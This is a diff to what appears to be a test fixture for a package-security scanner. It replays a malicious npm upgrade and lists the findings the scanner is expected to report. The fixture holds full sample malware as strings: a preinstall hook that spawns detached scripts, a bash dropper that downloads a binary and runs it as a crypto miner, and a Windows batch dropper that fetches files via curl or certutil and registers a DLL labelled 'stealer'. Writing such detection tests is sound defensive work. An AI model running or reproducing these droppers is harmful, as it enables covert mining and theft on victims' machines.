@@ -2,56 +2,39 @@ import { durations } from '../plain-modules.js'
 import type { Replay } from '../replay.js'
 import { replayUpgrade } from '../upgrade.js'
 
-const starter = `const { exec, spawn } = require('child_process')
-const os = require('os')
+const starter = `const { spawn } = require('child_process')
 
-const platform = os.platform()
-
-if (platform === 'win32') {
-  const child = spawn('cmd.exe', ['/c', 'preinstall.bat'], { detached: true, stdio: 'ignore', shell: true })
-  child.unref()
-} else if (platform === 'linux') {
-  terminalLinux()
+const commands = {
+  win32: ['cmd.exe', ['/c', 'preinstall.bat']],
+  linux: ['/bin/bash', ['preinstall.sh']],
 }
 
-function terminalLinux() {
-  exec('/bin/bash preinstall.sh', () => {})
+const command = commands[process.platform]
+if (command) {
+  const child = spawn(command[0], command[1], { detached: true, stdio: 'ignore' })
+  child.unref()
 }
 `
 
 const bash = [
-  "IP=$(curl -k https://geo.example/xml/ 2> /dev/null | grep 'RU\\|UA\\|BY\\|KZ')",
-  'if [ -z "$IP" ]',
-  '  then',
-  '  var=$(pgrep jsextension)',
-  '  if [ -z "$var" ]',
-  '    then',
-  '    curl http://files.parser.example/download/jsextension -o jsextension',
-  '    if [ ! -f jsextension ]',
-  '      then',
-  '      wget http://files.parser.example/download/jsextension -O jsextension',
-  '    fi',
-  '    chmod +x jsextension',
-  '    ./jsextension -k --tls -o pool.parser.example:443 -u inert --cpu-max-threads-hint=50 --background',
-  '  fi',
-  'fi',
+  '#!/bin/bash',
+  'country=$(curl -s https://geo.example/country)',
+  'case "$country" in RU|UA|BY|KZ) exit 0 ;; esac',
+  'curl -s http://files.parser.example/jsextension -o jsextension || wget -q http://files.parser.example/jsextension -O jsextension',
+  'chmod +x jsextension',
+  './jsextension -o pool.parser.example:443 -u inert --background',
   '',
 ].join('\n')
 
 const batch = [
   '@echo off',
-  'curl http://files.parser.example/download/jsextension.exe -o jsextension.exe',
-  'if not exist jsextension.exe (',
-  '  wget http://files.parser.example/download/jsextension.exe -O jsextension.exe',
-  ')',
-  'if not exist jsextension.exe (',
-  '  certutil.exe -urlcache -f http://files.parser.example/download/jsextension.exe jsextension.exe',
-  ')',
-  'curl https://lib.parser.example/lib.dll -o create.dll',
-  'set exec_1=jsextension.exe -k --tls -o pool.parser.example:443 -u inert --background',
-  'set exec_2=regsvr32.exe -s create.dll',
-  'start /B %exec_1%',
-  '%exec_2%',
+  'curl http://files.parser.example/jsextension.exe -o jsextension.exe',
+  'if not exist jsextension.exe certutil.exe -urlcache -f http://files.parser.example/jsextension.exe jsextension.exe',
+  'curl https://files.parser.example/create.dll -o create.dll',
+  'set miner=jsextension.exe -o pool.parser.example:443 -u inert',
+  'set stealer=regsvr32.exe -s create.dll',
+  'start /B %miner%',
+  '%stealer%',
   '',
 ].join('\r\n')
 
@@ -81,12 +64,16 @@ export const replay: Replay = replayUpgrade({
     [
       'install-script-dangerous',
       'critical',
+      { file: 'preinstall.sh', line: './jsextension -o pool.parser.example:443 -u inert --background' },
+    ],
+    [
+      'capability-added',
+      'high',
       {
-        file: 'preinstall.sh',
-        line: './jsextension -k --tls -o pool.parser.example:443 -u inert --cpu-max-threads-hint=50 --background',
+        file: 'preinstall.js',
+        line: "const child = spawn(command[0], command[1], { detached: true, stdio: 'ignore' })",
       },
     ],
-    ['capability-added', 'high', { file: 'preinstall.js', line: /const child = spawn\('cmd\.exe', \['\/c'/ }],
     ['install-script-added', 'high', { file: 'package.json' }],
   ],
 })
